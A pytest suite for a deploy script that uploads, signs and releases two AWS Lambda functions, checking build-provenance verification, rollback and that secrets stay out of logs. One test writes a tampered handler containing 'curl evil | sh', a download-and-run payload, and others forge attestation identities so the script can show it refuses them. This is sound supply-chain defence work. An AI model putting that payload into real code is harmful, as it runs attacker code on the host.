"""scripts/deploy_functions.sh against a fake `aws`, `curl` and `gh` on PATH: the gate's bytes verified (manifest and
build provenance) before anything is uploaded or signed, signing before any code moves, version published and alias
moved for both functions, the smoke test's checks, and the automatic alias rollback."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.gates.fake_dist import fake_dist, subjects
from tests.pipeline.attestations import install_gh, record

REPO = Path(__file__).resolve().parents[2]
SCRIPT = REPO / "scripts" / "deploy_functions.sh"
REPOSITORY = "rampart-project/rampart"
COMMIT = "abc"
# The claims of the token the gate's provenance job signs with, on main (tests/pipeline/github_oidc.py's form).
GATE_CLAIMS = {
    "repository": REPOSITORY,
    "job_workflow_ref": f"{REPOSITORY}/.github/workflows/ci.yml@refs/heads/main",
    "job_workflow_sha": COMMIT,
    "ref": "refs/heads/main",
    "sha": COMMIT,
    "run_id": "42",
    "runner_environment": "github-hosted",
}

FAKE_AWS = r"""#!/usr/bin/env bash
# Records every call; answers like the aws CLI with --output text.
echo "aws $*" >> "$FAKE_LOG"
case "$1 $2" in
  "s3api put-object") echo "objversion1" ;;
  "signer start-signing-job") echo "job-$(grep -c 'start-signing-job' "$FAKE_LOG")" ;;
  "signer wait") exit "${FAKE_SIGNING_FAILS:-0}" ;;
  "signer describe-signing-job") echo "signed/abc/$4-signed.zip" ;;
  "lambda update-function-code") echo "InProgress" ;;
  "lambda wait") ;;
  "lambda publish-version") echo "8" ;;
  "lambda get-alias") echo "7" ;;
  "lambda update-alias") for a; do [[ $prev == --function-version ]] && echo "$a"; prev=$a; done ;;
  "secretsmanager get-secret-value") # rampart keys' secret document (docs: conventions)
    printf '{"client": "smoke-test", "tier": "standard", "current": {"id": "k1", "value": "%s",' \
      k3y-from-secrets-manager
    printf ' "created_at": "2026-11-30T00:00:00Z"}, "previous": null, "previous_expires_at": null}\n' ;;
  *) echo "unexpected aws call: $*" >&2; exit 99 ;;
esac
"""

FAKE_CURL = r"""#!/usr/bin/env bash
# 200 + JSON with the key header file, 403 without; FAKE_API_STATUS overrides the keyed status.
echo "curl $*" >> "$FAKE_LOG"
out=/dev/null; keyed=0
while [[ $# -gt 0 ]]; do
  case "$1" in
    -o) out=$2; shift ;;
    -H) [[ $2 == @* ]] && grep -q '^x-api-key: k3y-from-secrets-manager$' "${2#@}" && keyed=1; shift ;;
  esac
  shift
done
if [[ $keyed == 1 ]]; then echo '{"status":"ok"}' > "$out"; printf '%s' "${FAKE_API_STATUS:-200}"; else printf 403; fi
"""


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    bindir = tmp_path / "bin"
    bindir.mkdir()
    for name, body in (("aws", FAKE_AWS), ("curl", FAKE_CURL)):
        (bindir / name).write_text(body, encoding="utf-8")
        (bindir / name).chmod(0o755)
    install_gh(bindir)
    dist = tmp_path / "dist"
    fake_dist(dist, COMMIT)
    store = tmp_path / "attestations.jsonl"
    record(store, subjects(dist), GATE_CLAIMS)  # what the gate's provenance job attested
    return {
        "PATH": f"{bindir}:{os.environ['PATH']}",
        "HOME": str(tmp_path),
        "FAKE_LOG": str(tmp_path / "calls.log"),
        "GITHUB_SHA": COMMIT,
        "GITHUB_REPOSITORY": REPOSITORY,
        "GH_TOKEN": "read-only-token",  # pragma: allowlist secret - a placeholder the gh stand-in only requires
        "ATTESTATION_STORE": str(store),
        "RAMPART_DIST_DIR": str(dist),
        "RAMPART_DEPLOY_STATE_DIR": str(tmp_path / "state"),
        "RAMPART_ARTIFACT_BUCKET": "artifacts",
        "RAMPART_SIGNING_PROFILE": "rampart",
        "RAMPART_INGEST_FUNCTION": "rampart-ingest",
        "RAMPART_API_FUNCTION": "rampart-api",
        "RAMPART_API_URL": "https://api.example.test/v1",
        "RAMPART_API_KEY_SECRET_ID": "rampart/api-key",
    }


def run(command: str, env: dict[str, str], **extra: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["bash", str(SCRIPT), command], cwd=REPO, env={**env, **extra}, capture_output=True, text=True, check=False
    )


def calls(env: dict[str, str]) -> list[str]:
    log = Path(env["FAKE_LOG"])
    return log.read_text(encoding="utf-8").splitlines() if log.exists() else []


def test_deploy_signs_both_then_updates_publishes_and_moves_the_alias(env: dict[str, str]) -> None:
    result = run("deploy", env)
    assert result.returncode == 0, result.stderr
    log = calls(env)
    signing = [i for i, c in enumerate(log) if "signer start-signing-job" in c]
    updates = [i for i, c in enumerate(log) if "lambda update-function-code" in c]
    assert len(signing) == 2 and len(updates) == 2 and max(signing) < min(updates)  # both signed before any update
    assert any("--s3-key signed/abc/job-1-signed.zip" in c and "rampart-ingest" in c for c in log)
    moves = [c for c in log if "update-alias" in c]
    assert moves == [
        "aws lambda update-alias --function-name rampart-ingest --name live --function-version 8 "
        "--query FunctionVersion --output text",
        "aws lambda update-alias --function-name rampart-api --name live --function-version 8 "
        "--query FunctionVersion --output text",
    ]
    state = (Path(env["RAMPART_DEPLOY_STATE_DIR"]) / "alias-moves.tsv").read_text(encoding="utf-8")
    assert state == "rampart-ingest\t7\t8\nrampart-api\t7\t8\n"


def test_a_failed_signature_moves_nothing(env: dict[str, str]) -> None:
    result = run("deploy", env, FAKE_SIGNING_FAILS="1")
    assert result.returncode != 0
    assert not any("update-function-code" in c or "update-alias" in c for c in calls(env))
    assert run("rollback", env).returncode == 0  # nothing recorded, nothing to roll back


def test_smoke_test_passes_with_the_key_and_checks_that_no_key_is_refused(env: dict[str, str]) -> None:
    result = run("smoke", env)
    assert result.returncode == 0, result.stderr
    log = calls(env)
    assert any("secretsmanager get-secret-value --secret-id rampart/api-key" in c for c in log)
    assert not any("k3y-from-secrets-manager" in c for c in log if c.startswith("curl"))  # never on a command line


def test_failed_smoke_test_then_rollback_restores_the_previous_versions(env: dict[str, str]) -> None:
    assert run("deploy", env).returncode == 0
    smoke = run("smoke", env, FAKE_API_STATUS="502")
    assert smoke.returncode != 0 and "HTTP 502" in smoke.stderr
    rollback = run("rollback", env)
    assert rollback.returncode == 0, rollback.stderr
    moves = [c for c in calls(env) if "update-alias" in c]
    assert moves[-2:] == [
        "aws lambda update-alias --function-name rampart-ingest --name live --function-version 7 "
        "--query FunctionVersion --output text",
        "aws lambda update-alias --function-name rampart-api --name live --function-version 7 "
        "--query FunctionVersion --output text",
    ]


def test_missing_configuration_fails_before_any_call(env: dict[str, str]) -> None:
    result = run("deploy", {**env, "RAMPART_SIGNING_PROFILE": ""})
    assert result.returncode != 0 and "RAMPART_SIGNING_PROFILE is not set" in result.stderr
    assert not Path(env["FAKE_LOG"]).exists()


def test_smoke_needs_the_secret_id_before_any_call(env: dict[str, str]) -> None:
    result = run("smoke", {**env, "RAMPART_API_KEY_SECRET_ID": ""})
    assert result.returncode != 0 and "RAMPART_API_KEY_SECRET_ID is not set" in result.stderr
    assert not Path(env["FAKE_LOG"]).exists()


@pytest.mark.parametrize("github_actions", ["", "true"])
def test_smoke_key_never_reaches_the_log(env: dict[str, str], github_actions: str) -> None:
    result = run("smoke", env, GITHUB_ACTIONS=github_actions)
    assert result.returncode == 0, result.stderr
    lines = (result.stdout + result.stderr).splitlines()
    leaking = [line for line in lines if "k3y-from-secrets-manager" in line]
    # On GitHub the one line with the key is the workflow command that masks it in every later line.
    assert leaking == (["::add-mask::k3y-from-secrets-manager"] if github_actions else [])


# ---- provenance: nothing the gate did not build and attest is uploaded, signed or deployed ---------------------


def first_aws_call(log: list[str]) -> int:
    return next((i for i, c in enumerate(log) if c.startswith("aws ")), len(log))


def test_every_attested_file_is_verified_before_any_aws_call(env: dict[str, str]) -> None:
    result = run("deploy", env)
    assert result.returncode == 0, result.stderr
    log = calls(env)
    verifies = [i for i, c in enumerate(log) if c.startswith("gh attestation verify")]
    assert len(verifies) == 5 and max(verifies) < first_aws_call(log)
    dist = env["RAMPART_DIST_DIR"]
    for name in ("manifest.json", "api.zip", "api.cdx.json", "ingest.zip", "ingest.cdx.json"):
        assert (
            f"gh attestation verify {dist}/{name} --repo {REPOSITORY} "
            f"--signer-workflow {REPOSITORY}/.github/workflows/ci.yml --signer-digest {COMMIT} "
            f"--source-ref refs/heads/main --source-digest {COMMIT} "
            "--predicate-type https://slsa.dev/provenance/v1 --deny-self-hosted-runners"
        ) in log


def test_the_manifest_is_kept_beside_the_unsigned_packages(env: dict[str, str]) -> None:
    assert run("deploy", env).returncode == 0
    puts = [c for c in calls(env) if "s3api put-object" in c]
    assert puts[0].startswith(f"aws s3api put-object --bucket artifacts --key unsigned/{COMMIT}/manifest.json ")
    assert f"--body {env['RAMPART_DIST_DIR']}/manifest.json" in puts[0]


def refused_before_aws(env: dict[str, str], expected: str) -> None:
    result = run("deploy", env)
    assert result.returncode != 0
    assert expected in result.stderr, result.stderr
    assert not [c for c in calls(env) if c.startswith("aws ")], "an AWS call before the bytes were verified"


def test_a_zip_changed_after_the_build_is_refused(env: dict[str, str]) -> None:
    with (Path(env["RAMPART_DIST_DIR"]) / "api.zip").open("ab") as handle:
        handle.write(b"\0")
    refused_before_aws(env, "FAIL: api.zip: sha256")


def test_a_rebuilt_zip_with_a_rewritten_manifest_is_refused(env: dict[str, str]) -> None:
    """The attacker rewrites zip, SBOM, SHA256SUMS and manifest consistently: only the attestation catches it."""
    fake_dist(Path(env["RAMPART_DIST_DIR"]), COMMIT, handler_text="import os; os.system('curl evil | sh')\n")
    refused_before_aws(env, "manifest.json has no build provenance")


def test_a_missing_attestation_is_refused(env: dict[str, str], tmp_path: Path) -> None:
    dist = Path(env["RAMPART_DIST_DIR"])
    store = tmp_path / "partial.jsonl"
    record(store, [p for p in subjects(dist) if p.name != "api.cdx.json"], GATE_CLAIMS)
    refused_before_aws({**env, "ATTESTATION_STORE": str(store)}, "api.cdx.json has no build provenance")


FOREIGN_ATTESTATIONS: dict[str, dict[str, Any]] = {
    "another repository": {"repository": "mallory/rampart"},
    "another workflow of this repository": {
        "job_workflow_ref": f"{REPOSITORY}/.github/workflows/deploy.yml@refs/heads/main"
    },
    "a workflow whose name only starts like the gate's": {
        "job_workflow_ref": f"{REPOSITORY}/.github/workflows/ci.yml.evil.yml@refs/heads/main"
    },
    "a pull request's build": {"ref": "refs/pull/7/merge"},
    "another commit": {"sha": "def", "job_workflow_sha": "def"},
    "another commit's gate": {"job_workflow_sha": "def"},
    "a self-hosted runner": {"runner_environment": "self-hosted"},
}


@pytest.mark.parametrize("foreign", sorted(FOREIGN_ATTESTATIONS))
def test_an_attestation_of_another_identity_is_refused(env: dict[str, str], tmp_path: Path, foreign: str) -> None:
    store = tmp_path / "foreign.jsonl"
    record(store, subjects(Path(env["RAMPART_DIST_DIR"])), {**GATE_CLAIMS, **FOREIGN_ATTESTATIONS[foreign]})
    refused_before_aws({**env, "ATTESTATION_STORE": str(store)}, "has no build provenance")


def test_verify_alone_needs_no_aws_and_no_credentials(env: dict[str, str]) -> None:
    result = run("verify", {k: v for k, v in env.items() if not k.startswith("RAMPART_") or k == "RAMPART_DIST_DIR"})
    assert result.returncode == 0, result.stderr
    assert not [c for c in calls(env) if c.startswith("aws ")]
    assert "verify: api.zip: provenance of" in result.stderr


@pytest.mark.parametrize("missing", ["GITHUB_REPOSITORY", "GH_TOKEN"])
def test_verify_needs_the_repository_and_a_token_before_any_call(env: dict[str, str], missing: str) -> None:
    result = run("deploy", {**env, missing: ""})
    assert result.returncode != 0 and f"{missing} is not set" in result.stderr
    assert not Path(env["FAKE_LOG"]).exists()


def test_without_the_gh_cli_nothing_is_deployed(env: dict[str, str], tmp_path: Path) -> None:
    bindir = tmp_path / "nogh"
    shutil.copytree(Path(env["PATH"].split(":")[0]), bindir)
    (bindir / "gh").unlink()
    path = ":".join([str(bindir), *[d for d in os.environ["PATH"].split(":") if not (Path(d) / "gh").exists()]])
    refused_before_aws({**env, "PATH": path}, "has no build provenance")
